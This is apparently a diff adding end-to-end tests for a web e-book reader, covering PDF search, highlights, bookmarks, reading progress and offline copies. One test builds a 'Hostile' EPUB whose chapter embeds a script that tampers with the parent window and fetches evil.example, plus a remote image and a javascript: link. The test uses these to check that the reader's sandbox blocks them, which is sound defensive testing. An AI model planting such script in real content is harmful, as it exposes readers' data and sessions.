@@ -1,0 +1,167 @@
+/** Sections 1 to 5, the reader: places, highlights, bookmarks, notes, the two formats, offline copies. */
+import { upload } from '../support/account.ts';
+import { makeBook, makeEpub, sentence } from '../support/books.ts';
+import { download } from '../support/offline.ts';
+import { makePdf } from '../support/pdfFiles.ts';
+import {
+  chapterFrame,
+  choose,
+  look,
+  painted,
+  paragraphOnScreen,
+  placeShown,
+  pressInBar,
+  untilOpen,
+} from '../support/reader.ts';
+import { expect, newReader, sharedReader, test } from './support.ts';
+
+test.describe.configure({ mode: 'default' });
+
+let epub = '';
+let pdf = '';
+const reader = sharedReader(async ({ request, token }) => {
+  epub = (await upload(request, token, await makeEpub('Reader Check'))).id;
+  const words = (n: number) => [{ text: `Word${n} on page ${n}`, x: 72, y: 700, height: 20 }];
+  const pages = [1, 2, 3, 4, 5].map((n) => ({ words: words(n) }));
+  pdf = (await upload(request, token, makePdf('paper', pages))).id;
+});
+
+const open = async (id: string) => {
+  await reader.page.goto(`/read/${id}`);
+  await untilOpen(reader.page);
+};
+const stored = async (id: string) => (await reader.calls.get(`/books/${id}/progress`)).body;
+
+test('[RD-02] “PDF reader: continuous and single page, zoom, fit, rotation, text selection, in-document search”', async () => {
+  const { page } = reader;
+  await open(pdf);
+  await expect(page.getByText('Word1 on page 1').first()).toBeVisible();
+  await page.keyboard.press('Control+f');
+  await page.getByRole('searchbox').fill('Word4');
+  await page.getByRole('list', { name: 'Search results' }).getByRole('button').first().click();
+  await expect(page.getByText('Word4 on page 4').first()).toBeInViewport();
+  await page.keyboard.press('Escape');
+  await pressInBar(page, 'Appearance');
+  const form = page.getByRole('dialog', { name: 'Appearance' });
+  for (const name of [/continuous|scroll/i, /single|one page/i])
+    await expect(form.getByRole('radio', { name }).first()).toBeAttached();
+  await expect(form.getByRole('button', { name: /rotate/i }).first()).toBeVisible();
+  await page.keyboard.press('Escape');
+});
+
+test('[RD-03] [RD-04] highlights: “text, color, page, position, created_at”; bookmarks; notes; drawn again after a reload', async () => {
+  const { page, calls } = reader;
+  await open(epub);
+  const paragraph = await paragraphOnScreen(page);
+  const words = ((await paragraph.textContent()) ?? '').trim();
+  await paragraph.click({ clickCount: 3 });
+  await page.getByRole('button', { name: 'Green' }).click();
+  await expect.poll(() => painted(page, 'green')).toEqual([words]);
+  await expect.poll(async () => (await calls.get(`/books/${epub}/highlights`)).body.items.length).toBe(1);
+  const [mark] = (await calls.get(`/books/${epub}/highlights`)).body.items;
+  expect(mark).toMatchObject({
+    text: words,
+    color: 'green',
+    page: expect.any(Number),
+    created_at: expect.any(String),
+  });
+  await open(epub);
+  await expect.poll(() => painted(page, 'green')).toEqual([words]);
+  await pressInBar(page, 'Bookmark this page');
+  await expect.poll(async () => (await calls.get(`/books/${epub}/bookmarks`)).body.items.length).toBe(1);
+  await calls.delete(`/highlights/${mark.id}`);
+  expect((await calls.get(`/books/${epub}/highlights`)).body.items).toEqual([]);
+});
+
+test('[RD-05] PUT /books/{id}/progress {current_page, total_pages, percentage, updated_at}; “credit pages only when the increase … is positive”', async () => {
+  const { calls } = reader;
+  const says = (page: number) =>
+    calls.put(`/books/${pdf}/progress`, {
+      current_page: page,
+      total_pages: 5,
+      percentage: page * 20,
+      updated_at: new Date().toISOString(),
+    });
+  const pages = async () => (await calls.get('/api/gamification/stats')).body.pagesRead;
+  await says(1);
+  const before = await pages();
+  expect((await says(3)).body.current_page).toBe(3);
+  const after = await pages();
+  expect(after).toBeGreaterThanOrEqual(before);
+  await says(2);
+  expect(await pages()).toBe(after);
+});
+
+test('[RD-06] a book cannot run scripts, reach the reader’s data or call out', async ({ browser }) => {
+  const { page, request, token } = await newReader(browser);
+  const book = await upload(
+    request,
+    token,
+    await makeBook({
+      title: 'Hostile',
+      spine: [
+        {
+          path: 'one.xhtml',
+          title: 'One',
+          body: '<h1>One</h1><p>Words.</p><script>parent.pwned = 1; fetch("https://evil.example/")</script><img src="https://evil.example/x.png" alt=""/><a href="javascript:parent.pwned=1">x</a>',
+        },
+      ],
+    }),
+  );
+  const left: string[] = [];
+  page.on('requestfinished', (sent) => sent.url().includes('evil.example') && left.push(sent.url()));
+  await page.goto(`/read/${book.id}`);
+  await untilOpen(page);
+  await expect(chapterFrame(page).getByText('Words.')).toBeVisible();
+  expect(await page.evaluate(() => 'pwned' in window)).toBe(false);
+  expect(left).toEqual([]);
+  await page.context().close();
+});
+
+test('[RD-07] [OF-01] “Downloaded books stay readable offline”, and their place is kept in the stores of the browser', async ({
+  browser,
+}) => {
+  test.slow();
+  const { page, request, token } = await newReader(browser);
+  const book = await upload(request, token, await makeEpub('Taken Along'));
+  await page.goto('/library');
+  await download(page, 'Taken Along');
+  await expect(page.getByRole('img', { name: 'Available offline' }).first()).toBeVisible({
+    timeout: 120_000,
+  });
+  await page.context().setOffline(true);
+  await page.goto(`/read/${book.id}`);
+  await untilOpen(page);
+  await page.keyboard.press('ArrowRight');
+  const stores = await page.evaluate(
+    () =>
+      new Promise<string[]>((resolve) => {
+        const request = indexedDB.open('lectern');
+        request.onsuccess = () => {
+          resolve([...request.result.objectStoreNames]);
+          request.result.close();
+        };
+      }),
+  );
+  expect(stores).toEqual(
+    expect.arrayContaining(['books', 'metadata', 'notes', 'reading_progress', 'sync_queue']),
+  );
+  await test.step('[OF-05] the banner: “Offline - Changes will sync when reconnected”, then “All changes synced”', async () => {
+    await page.goto('/library');
+    await expect(page.getByText('Offline - Changes will sync when reconnected').first()).toBeVisible();
+    await page.context().setOffline(false);
+    await expect
+      .poll(
+        async () => {
+          const headers = { authorization: `Bearer ${token}` };
+          return (
+            (await (await request.get(`/v1/books/${book.id}/progress`, { headers })).json())?.current_page ??
+            0
+          );
+        },
+        { timeout: 40_000 },
+      )
+      .toBeGreaterThan(1);
+  });
+  await page.context().close();
+});
